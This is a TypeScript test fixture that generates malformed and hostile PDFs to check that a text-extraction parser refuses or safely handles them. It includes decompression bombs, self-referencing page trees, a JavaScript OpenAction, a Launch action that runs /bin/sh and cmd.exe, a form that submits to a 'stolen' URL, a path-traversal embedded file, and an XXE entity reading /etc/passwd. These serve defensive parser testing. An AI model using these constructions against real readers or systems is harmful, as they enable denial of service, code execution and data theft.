import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { column, printed, smallPdf, streamOf } from '../small-pdf.ts'
import { zlibSpaces } from './deflated-spaces.ts'
import { SCRIPT, type HostileFile } from './hostile-file.ts'

const made = (name: string) => readFileSync(join(import.meta.dirname, '../made', name))
const words = 'Words of an honest page that can be read.'
const page = printed(column([words], { x: 50, y: 700 }))
const honest = () => smallPdf({ pages: [page] })
const reads = { reads: [words] }
/** What a parser may say of a file that contradicts itself; each is a sentence about the file. */
const refused = { refused: 'pdf-(?:damaged|page-damaged|truncated|empty|blank|scanned|too-long)|no-text' }
const stopped = { refused: 'extraction-(?:timeout|memory)|pdf-(?:page-damaged|damaged|blank)|file-too-deep' }
const script = SCRIPT.replace(/[()\\]/g, '\\$&')

const pdf = (what: string, make: () => Uint8Array, outcome: HostileFile['outcome']): HostileFile => ({
  what: `PDF: ${what}`,
  name: 'report.pdf',
  make,
  outcome,
})
/** The honest file with some of its bytes replaced; its index then points a little wrong, as in many real ones. */
const altered = (from: string, to: string, file = honest()) =>
  Buffer.from(
    file.toString('latin1').replace(from, () => to),
    'latin1',
  )
const withCatalog = (entries: string, more: readonly (string | Buffer)[] = []) =>
  altered('/Type/Catalog', `/Type/Catalog${entries}`, smallPdf({ pages: [page], more }))

/** A stream that unpacks to so many megabytes in the last of its layers. */
function bombed(layers: number, megabytes: number): Buffer {
  let packed = zlibSpaces(megabytes)
  for (let layer = 1; layer < layers; layer++) packed = deflateSync(packed, { level: 9 })
  return Buffer.concat([
    Buffer.from(`<</Filter[${'/FlateDecode '.repeat(layers)}]/Length ${packed.length}>>stream\n`),
    packed,
    Buffer.from('\nendstream'),
  ])
}
/** A page whose content is another object. */
const pageOf = (content: Buffer, resources = '') =>
  altered('/Contents 6 0 R', '/Contents 4 0 R', smallPdf({ pages: [page], more: [content], resources }))

const picture = streamOf(
  Buffer.alloc(100),
  '/Type/XObject/Subtype/Image/Width 10/Height 10/ColorSpace/DeviceGray/BitsPerComponent 8',
)
const drawing = 'q 500 0 0 700 50 50 cm /I1 Do Q'

/** PDFs that are locked, torn, endless, circular, or ask for something to be done. */
export const hostilePdf: readonly HostileFile[] = [
  pdf('with a password (AES-256)', () => made('locked.pdf'), { refused: 'pdf-encrypted' }),
  pdf('with a password (RC4)', () => made('locked-rc4.pdf'), { refused: 'pdf-encrypted' }),
  pdf('where only changing needs a password', () => made('owner.pdf'), { reads: ['Workshops for hire'] }),
  pdf(
    'encrypted by nobody knows what',
    () => altered('/Root 1 0 R', '/Root 1 0 R/Encrypt<</Filter/Own/V 9>>'),
    { refused: 'pdf-(?:damaged|encrypted)' },
  ),
  pdf(
    'scanned',
    () => smallPdf({ pages: [drawing, drawing], more: [picture], resources: '/XObject<</I1 4 0 R>>' }),
    { refused: 'pdf-scanned' },
  ),
  pdf('cut in the middle', () => made('office-en.pdf').subarray(0, 30_000), { refused: 'pdf-truncated' }),
  pdf('cut near its end', () => made('office-en.pdf').subarray(0, -600), { refused: 'pdf-truncated' }),
  pdf('with a hole of zeros', () => Buffer.from(made('office-en.pdf').fill(0, 2000, 9000)), {
    refused: 'pdf-(?:damaged|page-damaged|scanned|blank|unmapped)',
  }),
  pdf('of 3,001 pages', () => smallPdf({ pages: new Array<string>(3001).fill('') }), {
    refused: 'pdf-too-long',
  }),
  pdf('that claims 2,000,000,000 pages', () => altered('/Count 1', '/Count 2000000000'), reads),
  pdf('that claims less than no pages', () => altered('/Count 1', '/Count -1'), { refused: 'pdf-blank' }),
  pdf('whose page tree holds itself', () => altered('/Kids[4 0 R]', '/Kids[2 0 R]'), refused),
  pdf(
    'whose pages are each other’s parents',
    () => altered('/Kids[4 0 R]', '/Kids[2 0 R 2 0 R 2 0 R 2 0 R]'),
    refused,
  ),
  pdf(
    'whose index leads back to itself',
    () => altered('trailer<<', 'trailer<</Prev 9 /XRefStm 9 ', honest()),
    { reads: [words] },
  ),
  pdf(
    'whose index leads nowhere',
    () => altered(/startxref\n\d+/.exec(honest().toString('latin1'))?.[0] ?? '', 'startxref\n99999999'),
    { reads: [words] },
  ),
  pdf('whose length of a stream is the stream', () => altered('/Length', '/Length 5 0 R/L', honest()), {
    reads: [words],
  }),
  pdf('nested 200,000 deep', () => withCatalog(`/A${'['.repeat(200_000)}${']'.repeat(200_000)}`), {
    refused: 'file-too-deep|pdf-damaged|file-malformed',
  }),
  pdf('a page nested 200,000 deep', () => smallPdf({ pages: [`${'[<<'.repeat(100_000)} ${page}`] }), {
    refused: 'pdf-blank',
  }),
  pdf('bomb of 1.6 GB in a page', () => pageOf(bombed(1, 1600)), stopped),
  pdf('bomb within a bomb within a bomb', () => pageOf(bombed(3, 1600)), stopped),
  pdf(
    'bomb for a structure',
    () => withCatalog('/StructTreeRoot 4 0 R/MarkInfo<</Marked true>>', [bombed(2, 300)]),
    { reads: [words] },
  ),
  pdf('bomb for a description', () => withCatalog('/Metadata 4 0 R', [bombed(2, 300)]), { reads: [words] }),
  pdf(
    'bomb for a map of letters',
    () =>
      smallPdf({
        pages: [page],
        font: '<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding/ToUnicode 4 0 R>>',
        more: [bombed(2, 300)],
      }),
    reads,
  ),
  pdf(
    'map of letters without end',
    () =>
      smallPdf({
        pages: [page],
        font: '<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 4 0 R>>',
        more: [
          streamOf(
            Buffer.from(
              'begincmap 1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange 1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange endcmap',
            ),
          ),
        ],
      }),
    reads,
  ),
  pdf(
    'drawing that draws itself',
    () =>
      smallPdf({
        pages: [`${page}\n/X Do`],
        more: [
          streamOf(
            Buffer.from('/X Do /X Do'),
            '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>',
          ),
        ],
        resources: '/XObject<</X 4 0 R>>',
      }),
    reads,
  ),
  pdf(
    'drawing within drawing, doubling each time',
    () =>
      smallPdf({
        pages: [`${page}\n/X Do`],
        more: Array.from({ length: 40 }, (_, at) =>
          streamOf(
            Buffer.from('/X Do /X Do'),
            `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X ${Math.min(5 + at, 43)} 0 R>>>>`,
          ),
        ),
        resources: '/XObject<</X 4 0 R>>',
      }),
    reads,
  ),
  pdf('letters scattered over a page, 100,000 of them', () => smallPdf({ pages: [scattered(100_000)] }), {
    reads: [],
  }),
  pdf(
    'letters all in one place, 100,000 of them',
    () => smallPdf({ pages: ['BT /F1 12 Tf 50 700 Td (ab) Tj ET\n'.repeat(100_000)] }),
    { reads: ['ab'] },
  ),
  pdf('a line of 60,000 raised letters', () => smallPdf({ pages: [raisedLine(60_000)] }), {
    reads: ['aaaa'],
  }),
  pdf(
    'a page as large as the sun',
    () => altered('/MediaBox[0 0 595 842]', '/MediaBox[-1e30 -1e30 1e30 1e30]'),
    reads,
  ),
  pdf(
    'letters of infinite size',
    () =>
      smallPdf({
        pages: [`BT /F1 1e38 Tf 1e38 0 0 1e38 1e38 1e38 Tm (huge) Tj ET BT /F1 0 Tf (none) Tj ET ${page}`],
      }),
    { reads: ['huge', words] },
  ),
  pdf(
    'JavaScript on opening',
    () =>
      withCatalog(
        `/OpenAction<</S/JavaScript/JS(${script})>>/AA<</WC<</S/JavaScript/JS(${script})>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(${script})>>]>>>>`,
      ),
    reads,
  ),
  pdf(
    'program on opening',
    () => withCatalog('/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>'),
    reads,
  ),
  pdf(
    'form that sends itself',
    () =>
      withCatalog(
        '/OpenAction<</S/SubmitForm/F(http://127.0.0.1:9/stolen)>>/AcroForm<</Fields[]/XFA 4 0 R>>',
        [
          streamOf(
            Buffer.from(
              `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event><script contentType="application/x-javascript">${SCRIPT.replaceAll('"', "'")}</script></event></subform></template></xdp:xdp>`,
            ),
          ),
        ],
      ),
    reads,
  ),
  pdf(
    'another file inside',
    () =>
      withCatalog(
        '/Names<</EmbeddedFiles<</Names[(../../stolen.exe)<</Type/Filespec/F(../../stolen.exe)/EF<</F 4 0 R>>>>]>>>>',
        [streamOf(Buffer.from('MZ stolen'), '/Type/EmbeddedFile')],
      ),
    reads,
  ),
  pdf(
    'text kept in another file',
    () =>
      pageOf(
        Buffer.from('<</F(http://127.0.0.1:9/stolen)/FFilter/FlateDecode/Length 0>>stream\n\nendstream'),
      ),
    { refused: 'pdf-(?:blank|page-damaged|damaged)' },
  ),
  pdf(
    'description with entities',
    () =>
      withCatalog('/Metadata 4 0 R', [
        streamOf(
          Buffer.from(
            `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "stolen"><!ENTITY b "${'&a;'.repeat(1000)}"><!ENTITY c SYSTEM "file:///etc/passwd">]><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description><dc:title>${'&b;'.repeat(1000)}&c;</dc:title></rdf:Description></rdf:RDF></x:xmpmeta>`,
          ),
          '/Type/Metadata/Subtype/XML',
        ),
      ]),
    reads,
  ),
  pdf(
    'structure that goes round in circles',
    () =>
      withCatalog('/MarkInfo<</Marked true>>/StructTreeRoot 4 0 R', [
        '<</Type/StructTreeRoot/K 5 0 R/ParentTree<</Nums[0[5 0 R]]>>>>',
        '<</Type/StructElem/S/P/P 5 0 R/K[5 0 R 4 0 R 0]>>',
      ]),
    reads,
  ),
  pdf(
    'web page named so',
    () => Buffer.from(`<!doctype html><html><body><script>${SCRIPT}</script><p>${words}</p></body></html>`),
    reads,
  ),
  pdf('only named so', () => Buffer.from(words), { refused: 'pdf-not-pdf' }),
]

function scattered(letters: number): string {
  let state = 7
  const next = (most: number) => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0
    return (state >>> 8) % most
  }
  return Array.from(
    { length: letters },
    () =>
      `BT /F1 ${5 + next(9)} Tf ${next(595)} ${next(842)} Td (${String.fromCharCode(97 + next(26))}) Tj ET`,
  ).join('\n')
}

function raisedLine(letters: number): string {
  return Array.from(
    { length: letters },
    (_, at) =>
      `BT /F1 ${at % 2 === 0 ? 10 : 6} Tf ${(at * 7) % 20_000} ${at % 2 === 0 ? 700 : 703} Td (a) Tj ET`,
  ).join('\n')
}
